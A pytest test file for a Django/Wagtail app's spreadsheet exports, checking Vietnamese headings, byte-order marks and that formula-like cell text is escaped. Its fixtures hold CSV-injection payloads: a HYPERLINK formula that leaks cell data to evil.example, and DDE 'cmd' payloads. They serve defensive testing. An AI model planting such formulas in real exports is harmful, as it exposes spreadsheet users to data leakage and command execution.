"""Every CSV and XLSX download goes through toolkit/spreadsheets.py: a byte-order mark so Excel
reads Vietnamese, text that would run as a formula neutralised, and the title block in XLSX —
Wagtail's own listing exports (the officer list, site history) included."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.urls import reverse
from wagtail.log_actions import log

from tests.factories import PASSWORD, OfficerFactory
from toolkit import spreadsheets
from units.models import AdministrativeUnit

BOM = b"\xef\xbb\xbf"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def signed_in(client, user):
    assert client.login(username=user.username, password=PASSWORD)
    return client


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(content):
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def formula_officer(dien_bien):
    na_sang = AdministrativeUnit.objects.current().get(code="03172")
    return OfficerFactory(full_name=FORMULA, unit=na_sang, phone=" +1+cmd|'/C'!A0")


def test_the_officer_list_csv_has_a_bom_vietnamese_headings_and_no_formula(
    client, hr_na_sang, formula_officer
):
    response = signed_in(client, hr_na_sang).get(reverse("officer:index"), {"export": "csv"})

    assert response.status_code == 200
    rows = csv_rows(body(response))
    assert rows[0][0] == "Họ và tên"
    [row] = [row for row in rows if "HYPERLINK" in row[0]]
    assert row[0] == "'" + FORMULA
    assert row[rows[0].index("Số điện thoại")] == "' +1+cmd|'/C'!A0"


def test_the_officer_list_xlsx_has_the_title_block_and_keeps_formulas_as_text(
    client, hr_na_sang, formula_officer
):
    response = signed_in(client, hr_na_sang).get(reverse("officer:index"), {"export": "xlsx"})

    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Cán bộ"
    assert rows[1][0] == "Phạm vi: Xã Na Sang (03172)"
    assert rows[2][0].startswith("Thời điểm lập:")
    assert rows[4][0] == "Họ và tên"
    cells = [row[0] for row in sheet.iter_rows(min_row=6)]
    [cell] = [cell for cell in cells if "HYPERLINK" in cell.value]
    assert cell.value == "'" + FORMULA and cell.data_type == "s"


def test_wagtail_site_history_downloads_through_the_same_writer(
    client, administrator, formula_officer
):
    log(instance=formula_officer, action="wagtail.edit", user=administrator)
    client = signed_in(client, administrator)
    url = reverse("wagtailadmin_reports:site_history")

    rows = csv_rows(body(client.get(url, {"export": "csv"})))
    assert any("'" + FORMULA in row for row in rows)
    sheet = openpyxl.load_workbook(io.BytesIO(body(client.get(url, {"export": "xlsx"})))).active
    assert sheet["A2"].value == "Phạm vi: Toàn quốc"
    assert "'" + FORMULA in [cell.value for row in sheet.iter_rows(min_row=5) for cell in row]


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1+1", "\n@x", " -cmd"],
)
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(text):
    assert spreadsheets.guard(text) == "'" + text


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "-5", "+84912345678", "1.5", "", -5, -0.5])
def test_plain_text_and_numbers_are_left_alone(value):
    assert spreadsheets.guard(value) == value


def test_numbers_stay_numbers_and_formula_text_stays_text_in_xlsx():
    content = spreadsheets.xlsx_bytes(
        ["Báo cáo", "Phạm vi: Xã Na Sang (03172)"],
        [
            spreadsheets.Sheet(
                "Bảng", ["A", "B", "C", "D"], [[-5, -0.25, "=cmd|' /C calc'!A0", date(2026, 1, 2)]]
            )
        ],
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    number, fraction, text, day = sheet[5]
    assert (number.value, number.data_type) == (-5, "n")
    assert (fraction.value, fraction.data_type) == (-0.25, "n")
    assert (text.value, text.data_type) == ("'=cmd|' /C calc'!A0", "s")
    assert day.value.date() == date(2026, 1, 2)


def test_the_import_template_has_a_bom(client, hr_na_sang):
    response = signed_in(client, hr_na_sang).get(reverse("officer_import_template"))
    rows = csv_rows(body(response))
    assert rows[1][1] == "Nguyễn Văn A"
